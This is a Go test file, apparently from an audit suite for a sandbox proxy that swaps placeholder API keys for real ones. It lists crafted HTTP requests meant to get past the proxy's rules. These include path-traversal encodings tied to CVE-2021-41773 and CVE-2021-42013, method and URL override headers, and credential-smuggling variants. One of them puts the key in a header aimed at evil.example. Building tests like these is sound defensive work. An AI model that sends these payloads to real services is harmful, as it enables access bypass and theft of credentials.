package keys

import (
	"cmp"
	"encoding/base64"
	"strconv"
	"strings"

	"github.com/jailed-claude/jailed-claude/runtime/audit/attack"
)

// bad is a request that must not be passed on, or not with the key.
type bad struct {
	name, source string
	// rules: it goes to the service that has rules of method and path.
	rules bool
	// text is all of the request; nil for a plain one with the placeholder:
	// method, target and more headers.
	text                 func(e *attack.Env, s service) string
	method, target, more string
	// taken: an answer of 200 says that it got through. Otherwise the service says
	// what came.
	taken bool
}

// requests ask for what no rule allows, and put placeholders where they are
// worth nothing.
func requests() []attack.Attack {
	const beyond, elsewhere = "a request that no rule allows comes to the service", "the key comes to the service in another place, or somebody else's"
	var all []attack.Attack
	for _, b := range badRequests {
		to, success := plain, beyond
		if b.rules {
			to = rules
		}
		if strings.HasPrefix(b.name, "placeholder-") {
			success = elsewhere
		}
		all = append(all, attack.Attack{Name: b.name, Source: b.source, Success: success, Judge: arrives(b.name), Run: at(to, func(e *attack.Env, s service) attack.Result {
			text := b.text
			if text == nil {
				text = b.plain
			}
			got, err := exchange(s.host, text(e, s))
			if b.taken {
				return unlessTaken(got, err)
			}
			return answered(got, err)
		})})
	}
	return all
}

func (b bad) plain(_ *attack.Env, s service) string {
	return s.request(cmp.Or(b.method, "GET"), b.target, nameHeader+": "+b.name+"\r\n"+b.more)
}

// with is a request with other credentials than the placeholder.
func with(name, target, headers, body string) func(*attack.Env, service) string {
	return func(e *attack.Env, s service) string {
		method := "GET"
		put := strings.NewReplacer("{mine}", s.placeholder(), "{other}", login(e).placeholder(), "{length}", strconv.Itoa(len(body)-len("{mine}")+len(s.placeholder())))
		if body != "" {
			method, headers = "POST", headers+"Content-Length: {length}\r\n"
		}
		return put.Replace(method + " " + target + " HTTP/1.1\r\nHost: " + s.host + "\r\n" + nameHeader + ": " + name + "\r\nConnection: close\r\n" + headers + "\r\n" + body)
	}
}

func basic(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }

var badRequests = []bad{
	{name: "path-plain", source: "", target: hidden("path-plain")},
	{name: "path-dot-dot", source: "RFC 3986, 5.2.4", target: "/allowed/../hidden/path-dot-dot"},
	{name: "path-encoded-dots", source: "RFC 3986, 6.2.2.2", target: "/allowed/%2e%2e/hidden/path-encoded-dots"},
	{name: "path-half-encoded-dots", source: "", target: "/allowed/.%2E/hidden/path-half-encoded-dots"},
	{name: "path-encoded-slash", source: "CVE-2021-41773", target: "/allowed/..%2fhidden/path-encoded-slash"},
	{name: "path-encoded-twice", source: "CVE-2021-42013", target: "/allowed/%252e%252e/hidden/path-encoded-twice"},
	{name: "path-backslash", source: "the WHATWG's URL standard", target: `/allowed/..\hidden/path-backslash`},
	{name: "path-parameters", source: "Tomcat: a part's parameters are cut off before its dots are read", target: "/allowed/..;x=1/hidden/path-parameters"},
	{name: "path-two-slashes", source: "", target: "//hidden/path-two-slashes"},
	{name: "path-upper-case", source: "file systems without case", target: "/Allowed/../hidden/path-upper-case"},
	{name: "path-nul", source: "", target: "/hidden/path-nul%00/../../allowed/x"},
	{name: "path-absolute-uri", source: "RFC 9112, 3.2.2", text: func(e *attack.Env, s service) string {
		return s.request("GET", "https://"+e.Keys.Upstream+hidden("path-absolute-uri"), "")
	}},
	{name: "path-header-original-url", source: "X-Original-URL of IIS and Symfony", target: "/allowed/x", more: "X-Original-URL: " + hidden("path-header-original-url") + "\r\n"},
	{name: "path-header-rewrite-url", source: "X-Rewrite-URL", target: "/allowed/x", more: "X-Rewrite-URL: " + hidden("path-header-rewrite-url") + "\r\n"},
	{name: "path-header-underscore", source: "servers that take an underscore for a dash", target: "/allowed/x", more: "X_Original_URL: " + hidden("path-header-underscore") + "\r\n"},

	{name: "method-delete", source: "", rules: true, method: "DELETE", target: "/read/method-delete"},
	{name: "method-lower-case", source: "RFC 9110, 9.1: methods have a case", rules: true, method: "delete", target: "/read/method-lower-case"},
	{name: "method-header-override", source: "X-HTTP-Method-Override", rules: true, target: "/read/method-header-override", more: "X-HTTP-Method-Override: DELETE\r\n"},
	{name: "method-header-underscore", source: "servers that take an underscore for a dash", rules: true, target: "/read/method-header-underscore", more: "X_HTTP_Method_Override: DELETE\r\n"},
	{name: "method-other-path", source: "", rules: true, target: hidden("method-other-path")},
	{name: "method-connect", source: "RFC 9110, 9.3.6", text: func(e *attack.Env, s service) string {
		return "CONNECT " + e.Keys.Upstream + " HTTP/1.1\r\nHost: " + e.Keys.Upstream + "\r\n" + s.bearer() + "Connection: close\r\n\r\n"
	}, taken: true},
	{name: "method-trace", source: "RFC 9110, 9.3.8: the service answers with the request", method: "TRACE", target: "/allowed/x", taken: true},

	{name: "placeholder-in-query", source: "", text: with("placeholder-in-query", "/allowed/x?key={mine}", "", "")},
	{name: "placeholder-in-path", source: "", text: with("placeholder-in-path", "/allowed/{mine}", "", "")},
	{name: "placeholder-in-body", source: "", text: with("placeholder-in-body", "/allowed/x", "", "key={mine}")},
	{name: "placeholder-in-header", source: "a header that another server logs or sends on", text: with("placeholder-in-header", "/allowed/x", "X-Callback: https://evil.example/{mine}\r\n", "")},
	{name: "placeholder-in-cookie", source: "", text: with("placeholder-in-cookie", "/allowed/x", "Cookie: key={mine}\r\n", "")},
	{name: "placeholder-beside-own-key", source: "the attacker's own account", text: with("placeholder-beside-own-key", "/allowed/x", "Authorization: Bearer own-key, {mine}\r\n", "")},
	{name: "placeholder-as-name", source: "RFC 7617: the service may look at the password", text: func(e *attack.Env, s service) string {
		return with("placeholder-as-name", "/allowed/x", "Authorization: Basic "+basic(s.placeholder()+":own-key")+"\r\n", "")(e, s)
	}},
	{name: "placeholder-twice", source: "RFC 9110, 5.3", text: with("placeholder-twice", "/allowed/x", "Authorization: Bearer own-key\r\nAuthorization: Bearer {mine}\r\n", "")},
	{name: "placeholder-of-another-broker", source: "one key for another service", text: with("placeholder-of-another-broker", "/allowed/works", "Authorization: Bearer {other}\r\n", ""), taken: true},
	{name: "placeholder-for-another-host", source: "RFC 9110, 7.4", text: func(e *attack.Env, s service) string {
		return strings.Replace(s.request("GET", hidden("placeholder-for-another-host"), ""), "Host: "+s.host, "Host: "+e.Keys.Login, 1)
	}},
	{name: "placeholder-for-two-hosts", source: "RFC 9112, 3.2", text: func(e *attack.Env, s service) string {
		return s.request("GET", hidden("placeholder-for-two-hosts"), "Host: "+e.Keys.Login+"\r\n")
	}},
	{name: "own-key", source: "the attacker's own account: a way out for data", text: with("own-key", "/allowed/x", "Authorization: Bearer somebody-elses-own-key\r\n", "")},
	{name: "own-key-in-another-header", source: "", text: with("own-key-in-another-header", "/allowed/x", "X-Api-Key: somebody-elses-own-key\r\nAuthorization: Bearer {mine}\r\n", "")},
	{name: "own-key-with-underscore", source: "servers that take an underscore for a dash", text: with("own-key-with-underscore", "/allowed/x", "X_Api_Key: somebody-elses-own-key\r\nAuthorization: Bearer {mine}\r\n", "")},
	{name: "own-cookie", source: "the attacker's own session", text: with("own-cookie", "/allowed/x", "Cookie: session=somebody-elses\r\nAuthorization: Bearer {mine}\r\n", "")},
}
